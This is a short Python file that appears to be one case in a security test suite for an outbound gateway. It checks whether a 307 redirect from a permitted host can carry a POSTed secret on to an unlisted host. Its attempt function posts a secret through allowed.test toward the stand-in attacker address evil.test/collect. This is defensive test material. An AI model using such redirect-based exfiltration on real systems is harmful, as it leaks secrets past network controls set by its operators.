"""A redirect that takes the posted body along to another host.

307 and 308 tell the client to send the same method and body again. What was meant for a
permitted place goes, whole, to wherever that place points.

Not covered: what the permitted place does with the body itself.
"""

ATTACK = {
    "title": "Redirect of a POST with its body to an unlisted host",
    "group": "redirects",
    "layer": "gateway",
    "risk": "exfiltration",
    "references": ["CWE-601", "CWE-200", "R043", "RFC 9110 section 15.4.8"],
    "arrives": [{"what": "request", "name": "evil.test"}, {"what": "question", "name": "evil.test"}],
    "stopped": [
        {"reason": ["not-listed"], "entry": ["transparent"], "where": {"control": "recheck-redirects"}}
    ],
}


def attempt(kit):
    from follow import follow

    url = "http://allowed.test/redirect?code=307&to=http://evil.test/collect"
    follow(kit, url, "POST", f"secret={kit.word}")
